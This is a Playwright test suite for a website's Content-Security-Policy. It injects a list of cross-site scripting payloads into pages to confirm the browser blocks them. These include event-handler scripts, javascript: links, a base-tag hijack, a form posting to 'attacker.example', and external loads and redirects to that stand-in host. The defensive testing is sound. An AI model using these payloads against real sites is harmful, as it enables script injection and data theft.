/** The site's responses protect its visitors, and content injected into a page does nothing. */
import type { Page } from "@playwright/test";
import { listAllPages, localizePath, pathTo } from "../../src/site/paths";
import { localesInTurn } from "../site/examples";
import { expect, open, test } from "../site/test";

for (const { code: locale, name } of localesInTurn(1)) {
  test(`in ${name} every page has one strict policy, before anything that could load`, async ({ request }) => {
    const paths = listAllPages().flatMap((page) => (page.locale === locale ? [page.path] : []));
    for (const path of [...paths, localizePath("/no-such-page", locale)]) {
      const html = await (await request.get(path)).text();
      const policies = Array.from(html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/gu));
      expect(policies, path).toHaveLength(1);
      expect(policies[0]?.[1], path).not.toMatch(/unsafe|\*/u);
      expect(policies[0]?.index, path).toBeLessThan(html.search(/<(?:script|style|link)/u));
    }
  });
}

declare global {
  interface Window {
    /** Set by a script that should never have run. */
    hacked?: string;
  }
}

const elsewhere = "https://attacker.example";

/** Ways in which injected markup could act; each sets `hacked` or sends a request to another host. */
const attacks = [
  `<script>window.hacked="script"</script>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<script type="module">window.hacked="module"</script>`,
  `<script src="data:text/javascript,window.hacked='data'"></script>`,
  `<img src="/no-such-picture.png" onerror="window.hacked='onerror'">`,
  `<img src="${elsewhere}/pixel.png">`,
  `<svg onload="window.hacked='svg'"><script>window.hacked="svg script"</script></svg>`,
  `<iframe srcdoc="<script>parent.hacked='frame'</script>"></iframe>`,
  `<iframe src="${elsewhere}/frame"></iframe>`,
  `<object data="${elsewhere}/x.swf"></object><embed src="${elsewhere}/x.swf">`,
  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  `<style>@import "${elsewhere}/x.css"; body { background: url(${elsewhere}/bg.png) }</style>`,
  `<base href="${elsewhere}/">`,
  `<video src="${elsewhere}/x.mp4"></video>`,
  `<details open ontoggle="window.hacked='toggle'">x</details>`,
  `<input autofocus onfocus="window.hacked='focus'">`,
  `<form id="stolen" action="${elsewhere}/form"><button>x</button></form>`,
  `<a id="lure" href="javascript:window.hacked='link'">x</a>`,
].join("");

/**
 * Returns a list that collects the requests to the other host from now on. Requests that the policy blocks are reported
 * by Playwright, but never reach the network.
 */
async function watchElsewhere(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route(`${elsewhere}/**`, async (route) => {
    asked.push(route.request().url());
    await route.abort();
  });
  return asked;
}

/** Opens a page with injected markup at several places, as if the build had failed to escape it. */
async function openAttacked(page: Page, path: string): Promise<void> {
  await page.route(path, async (route) => {
    const answer = await route.fetch();
    const html = await answer.text();
    const places = [/(<title[^>]*>[^<]*<\/title>)/u, /(<main[^>]*>)/u, /(<h1[^>]*>)/u, /(<\/main>)/u];
    const body = places.reduce((text, place) => text.replace(place, (found) => found + attacks), html);
    expect(body.split(attacks).length, "the markup came in").toBeGreaterThanOrEqual(4);
    await route.fulfill({ response: answer, body });
  });
  await page.goto(path);
  await page.waitForLoadState("load");
}

test.describe("injected markup", () => {
  // The browser reports everything that it blocks.
  test.use({ expectedFaults: /./u });

  // The same build step writes every policy, and all were checked above, so three kinds of pages are enough.
  for (const id of ["home", "schools", "about"] as const) {
    test(`does nothing on the page ${id}`, async ({ page }) => {
      const asked = await watchElsewhere(page);
      await openAttacked(page, pathTo(id, "hi"));
      await page.evaluate(() => document.querySelector<HTMLAnchorElement>("#lure")?.click());
      await page.evaluate(() => document.querySelector<HTMLFormElement>("#stolen")?.requestSubmit());
      expect(await page.evaluate(() => window.hacked)).toBeUndefined();
      expect(new URL(page.url()).pathname).toBe(pathTo(id, "hi"));
      expect(asked).toEqual([]);
    });
  }

  for (const path of ["/mark.svg", "/feeds/all.atom"]) {
    test(`does nothing in ${path}, opened directly`, async ({ page }) => {
      const requested = await watchElsewhere(page);
      await page.route(path, async (route) => {
        const body = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>t</title><script>location="${elsewhere}/script"</script><image href="${elsewhere}/picture.png" width="9" height="9"/></svg>`;
        await route.fulfill({ response: await route.fetch(), body });
      });
      await page.goto(path);
      // All its requests have been sent when the next file has loaded.
      await page.goto("/robots.txt");
      expect(requested).toEqual([]);
    });
  }

  test("cannot be created from a string by the page's scripts", async ({ page }) => {
    await open(page, pathTo("rti", "en"));
    const refused = await page.evaluate(async () => {
      // Code from Playwright may evaluate strings in its first turn; the page's scripts never may.
      await new Promise((resolve) => window.setTimeout(resolve));
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => {
          document.body.innerHTML += "<img src=x onerror=\"window.hacked='html'\">";
        },
        script: () => {
          const script = document.createElement("script");
          script.src = "https://attacker.example/x.js";
          document.head.append(script);
        },
        // biome-ignore lint/security/noGlobalEval: the test expects it to fail.
        eval: () => window.eval("window.hacked='eval'"),
        function: () => new Function("window.hacked='function'")(),
        timer: () => window.setTimeout("window.hacked='timer'"),
        worker: () => new Worker("https://attacker.example/x.js"),
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch {
          return [name];
        }
      });
    });
    expect(refused).toEqual(["innerHTML", "script", "eval", "function", "timer", "worker"]);
    expect(await page.evaluate(() => window.hacked)).toBeUndefined();
  });
});
